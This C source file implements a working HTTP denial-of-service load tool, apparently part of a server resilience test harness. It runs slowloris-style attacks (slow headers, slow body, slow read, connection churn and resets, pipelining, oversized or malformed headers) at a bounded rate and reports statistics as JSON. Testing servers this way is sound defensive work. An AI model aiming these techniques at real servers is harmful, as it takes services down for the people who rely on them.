/* One kind of attack, bounded in connections and rate.

   attacker KIND PORT HOST CONNECTIONS RATE

   RATE counts what the kind does again and again, a second, over all connections. Prints "ready HELD" when the connections
   stand, and on SIGTERM one line of JSON: what was sent, answered, held. Then its connections are reset. */
#include "common.h"

enum { closes = 1, reopens = 2, reads_slowly = 4, resets = 8 };

struct kind {
    const char *name;
    /* Sent when the connection stands; @ is the host. */
    const char *opening;
    /* Sent with each turn of the connection, or nothing. */
    const char *again;
    int flags;
    /* SO_RCVBUF; 0: the kernel's. */
    int receive_buffer;
};

#define GET(target) "GET " target " HTTP/1.1\r\nHost: @\r\n"
static char fields[8192], large[15000], chunks[131072], pipeline[16384], too_many[65536];
static const struct kind kinds[] = {
    {"idle", GET("/") "\r\n", NULL, 0, 0},
    {"slow-headers", GET("/") "X-Slow: ", "a", reopens, 0},
    {"slow-body", "POST / HTTP/1.1\r\nHost: @\r\nContent-Length: 2000\r\n\r\n", "a", reopens, 0},
    {"slow-chunks", "POST / HTTP/1.1\r\nHost: @\r\nTransfer-Encoding: chunked\r\n\r\n", "1\r\na\r\n", reopens, 0},
    {"slow-read", GET("/big.bin") "\r\n", NULL, reads_slowly | reopens, 2048},
    {"slow-read-forwarded", GET("/b/8388608") "\r\n", NULL, reads_slowly | reopens, 2048},
    {"churn", GET("/") "\r\n", NULL, closes, 0},
    {"churn-reset", GET("/") "\r\n", NULL, closes | resets, 0},
    {"pipeline", NULL, pipeline, reopens, 0},
    {"fields", NULL, fields, reopens, 0},
    {"large-fields", NULL, large, reopens, 0},
    {"too-many-fields", too_many, NULL, closes, 0},
    {"malformed", "GET / HTTP/1.1\r\nHost: @\r\nBad Name: x\r\n\r\n", NULL, closes, 0},
    {"chunks", NULL, chunks, reopens, 0},
    {"queue", GET("/") "\r\n", NULL, closes, 0},
};

struct connection {
    int fd;
    int is_open;            /* the opening is sent */
    int has_answer;         /* the first octets of an answer are here; known of slow readers only */
    unsigned matched;       /* of the start of a status line */
    unsigned status;
    size_t unsent;          /* octets of `again` that the kernel did not take, counted from its end */
};

static struct connection *all;
static int count, port, epoll, source;
static const struct kind *kind;
static char opening[sizeof too_many], again_text[sizeof chunks];
static size_t opening_count, again_count;
static uint64_t answers[600], sent_octets, read_octets, turns, opened, closed_by_server, refused;
static volatile sig_atomic_t stopping;

static void stop(int signal) {
    (void)signal;
    stopping = 1;
}

static size_t filled(char *to, const char *text, const char *host, size_t size) {
    size_t n = 0;
    for (; text && *text && n + strlen(host) + 1 < size; text++) {
        if (text[0] == '@') n += (size_t)sprintf(to + n, "%s", host);
        else to[n++] = *text;
    }
    return n;
}

static void prepare(void) {
    char *p = fields + sprintf(fields, "%s", GET("/"));
    for (int i = 0; i < 90; i++) p += sprintf(p, "X-Field-Number-%d: some value of it %d\r\n", i, i);
    sprintf(p, "\r\n");
    p = large + sprintf(large, "%s", GET("/"));
    for (int i = 0; i < 7; i++) {
        p += sprintf(p, "X-Large-%d: ", i);
        memset(p, 'l', 2000);
        p += 2000;
        p += sprintf(p, "\r\n");
    }
    sprintf(p, "\r\n");
    p = too_many + sprintf(too_many, "%s", GET("/"));
    for (int i = 0; i < 400; i++) p += sprintf(p, "X-%d: a\r\n", i);
    sprintf(p, "\r\n");
    p = chunks + sprintf(chunks, "POST / HTTP/1.1\r\nHost: @\r\nTransfer-Encoding: chunked\r\n\r\n");
    for (int i = 0; i < 1024; i++) p += sprintf(p, "1;a=\"value\"\r\nc\r\n");
    sprintf(p, "0\r\n\r\n");
    p = pipeline;
    for (int i = 0; i < 32; i++) p += sprintf(p, "%s", GET("/") "\r\n");
}

static void begin(struct connection *c) {
    memset(c, 0, sizeof *c);
    source = source % 250 + 1;
    c->fd = open_connection(port, source, kind->receive_buffer);
    if (c->fd < 0) {
        refused++;
        return;
    }
    struct epoll_event e = {.events = EPOLLOUT, .data.ptr = c};
    epoll_ctl(epoll, EPOLL_CTL_ADD, c->fd, &e);
}

static void finish(struct connection *c, int by_server) {
    if (c->fd < 0) return;
    if (by_server) closed_by_server++;
    reset_connection(c->fd);
    c->fd = -1;
    c->is_open = 0;
}

/* Counts status codes without looking at framing: contents hold no "HTTP/1.1 ". */
static void count_answers(struct connection *c, const char *octets, size_t n) {
    static const char start[] = "HTTP/1.1 ";
    for (size_t i = 0; i < n; i++) {
        if (c->matched < 9) {
            c->matched = octets[i] == start[c->matched] ? c->matched + 1 : octets[i] == 'H';
        } else {
            c->status = c->status * 10 + (unsigned)(octets[i] - '0') % 10;
            if (++c->matched == 12) {
                if (c->status < 600) answers[c->status]++;
                c->matched = c->status = 0;
            }
        }
    }
}

static int is_flood(void) { return kind->flags & closes; }

static void readable(struct connection *c) {
    static char octets[262144];
    ssize_t n = recv(c->fd, octets, sizeof octets, 0);
    if (n < 0 && errno == EAGAIN) return;
    if (n <= 0) {
        finish(c, 1);
        return;
    }
    read_octets += (uint64_t)n;
    count_answers(c, octets, (size_t)n);
    if (is_flood()) finish(c, 0);
}

static void writable(struct connection *c) {
    int error = 0;
    socklen_t length = sizeof error;
    getsockopt(c->fd, SOL_SOCKET, SO_ERROR, &error, &length);
    if (error) {
        refused++;
        finish(c, 0);
        return;
    }
    if (!c->is_open) {
        c->is_open = 1;
        opened++;
        if (opening_count && send(c->fd, opening, opening_count, MSG_NOSIGNAL) < 0) {
            finish(c, 1);
            return;
        }
        sent_octets += opening_count;
        if (kind->flags & resets) {
            finish(c, 0);
            return;
        }
    }
    struct epoll_event e = {.events = EPOLLIN, .data.ptr = c};
    epoll_ctl(epoll, EPOLL_CTL_MOD, c->fd, &e);
}

/* A slow reader learns that its answer has begun, and takes nothing before its turn. */
static void answer_begins(struct connection *c) {
    c->has_answer = 1;
    struct epoll_event e = {.events = 0, .data.ptr = c};
    epoll_ctl(epoll, EPOLL_CTL_MOD, c->fd, &e);
}

/* What the kind does again and again, once, on one connection; 0: nothing could be done there. */
static int act(struct connection *c) {
    if (c->fd < 0) {
        if (!(kind->flags & (closes | reopens))) return 0;
        begin(c);
        return 1;
    }
    if (!c->is_open || is_flood()) return 0;
    if (kind->flags & reads_slowly) {
        char few[512];
        ssize_t n = recv(c->fd, few, sizeof few, 0);
        if (n > 0) count_answers(c, few, (size_t)n), read_octets += (uint64_t)n;
        else if (n == 0 || errno != EAGAIN) finish(c, 1);
        return 1;
    }
    if (again_count == 0) return 0;
    size_t part = c->unsent ? c->unsent : again_count;
    ssize_t n = send(c->fd, again_text + again_count - part, part, MSG_NOSIGNAL);
    if (n < 0) {
        if (errno != EAGAIN) finish(c, 1);
        return 0;
    }
    c->unsent = part - (size_t)n;
    sent_octets += (uint64_t)n;
    return 1;
}

static void turn(int timeout_ms) {
    struct epoll_event events[512];
    int n = epoll_wait(epoll, events, 512, timeout_ms);
    for (int i = 0; i < n; i++) {
        struct connection *c = events[i].data.ptr;
        if (c->fd < 0) continue;
        if (events[i].events & EPOLLOUT) writable(c);
        else if (events[i].events & EPOLLIN) kind->flags & reads_slowly ? answer_begins(c) : readable(c);
        else finish(c, 1);
    }
}

static int standing(void) {
    int n = 0;
    for (int i = 0; i < count; i++) n += all[i].is_open;
    return n;
}

static int answered(void) {
    int n = 0;
    for (int i = 0; i < count; i++) n += all[i].has_answer;
    return n;
}

int main(int argc, char **argv) {
    if (argc != 6) return fprintf(stderr, "usage: attacker KIND PORT HOST CONNECTIONS RATE\n"), 2;
    prepare();
    for (size_t i = 0; i < sizeof kinds / sizeof *kinds; i++)
        if (strcmp(kinds[i].name, argv[1]) == 0) kind = &kinds[i];
    if (!kind) return fprintf(stderr, "no such kind: %s\n", argv[1]), 2;
    port = atoi(argv[2]);
    count = atoi(argv[4]);
    double rate = atof(argv[5]);
    opening_count = filled(opening, kind->opening, argv[3], sizeof opening);
    again_count = filled(again_text, kind->again, argv[3], sizeof again_text);
    raise_descriptor_limit();
    signal(SIGPIPE, SIG_IGN);
    signal(SIGTERM, stop);
    signal(SIGINT, stop);
    all = calloc((size_t)count, sizeof *all);
    epoll = epoll_create1(EPOLL_CLOEXEC);
    if (!all || epoll < 0) die("memory");
    /* Connections come in lots, 2 000 a second, so that no backlog overflows; a flood only begins. */
    for (int i = 0; i < count; i++) all[i].fd = -1;
    int lot = 0;
    if (!is_flood()) {
        for (int i = 0; i < count && !stopping; i++) {
            begin(&all[i]);
            if (++lot % 40 == 0)
                for (uint64_t pause = now_ns() + 20000000u; now_ns() < pause;) turn(1);
        }
        for (uint64_t limit = now_ns() + 10000000000u; standing() < count && now_ns() < limit && !stopping;) {
            int before = standing();
            turn(100);
            if (standing() == before) break;
        }
        /* Every answer to an opening has begun before the attack counts as standing. */
        if (kind->flags & reads_slowly)
            for (uint64_t limit = now_ns() + 20000000000u; answered() < standing() && now_ns() < limit && !stopping;) turn(50);
        for (uint64_t limit = now_ns() + 500000000u; now_ns() < limit && !stopping;) turn(50);
    }
    printf("ready %d\n", standing());
    fflush(stdout);
    uint64_t begun = now_ns(), done = 0;
    int next = 0, lowest = standing();
    while (!stopping) {
        uint64_t due = (uint64_t)((double)(now_ns() - begun) / 1e9 * rate);
        /* What could not be done in time is not made up for in a burst. */
        if (due > done + 2000) done = due - 2000;
        for (int tried = 0; done < due && tried < count; tried++) {
            if (act(&all[next])) done++, turns++;
            next = (next + 1) % count;
        }
        turn(1);
        if (!is_flood() && turns % 512 == 0) {
            int now = standing();
            if (now < lowest) lowest = now;
        }
    }
    double seconds = (double)(now_ns() - begun) / 1e9;
    int held = standing();
    printf("{\"kind\": \"%s\", \"held\": %d, \"held_least\": %d, \"opened\": %llu, \"refused\": %llu, \"closed_by_server\": %llu, "
           "\"turns\": %llu, \"seconds\": %.2f, \"sent\": %llu, \"read\": %llu, \"answers\": {",
           kind->name, held, held < lowest ? held : lowest, (unsigned long long)opened, (unsigned long long)refused,
           (unsigned long long)closed_by_server, (unsigned long long)turns, seconds, (unsigned long long)sent_octets,
           (unsigned long long)read_octets);
    const char *separator = "";
    for (int i = 0; i < 600; i++)
        if (answers[i]) printf("%s\"%d\": %llu", separator, i, (unsigned long long)answers[i]), separator = ", ";
    printf("}}\n");
    fflush(stdout);
    for (int i = 0; i < count; i++) finish(&all[i], 0);
    return 0;
}
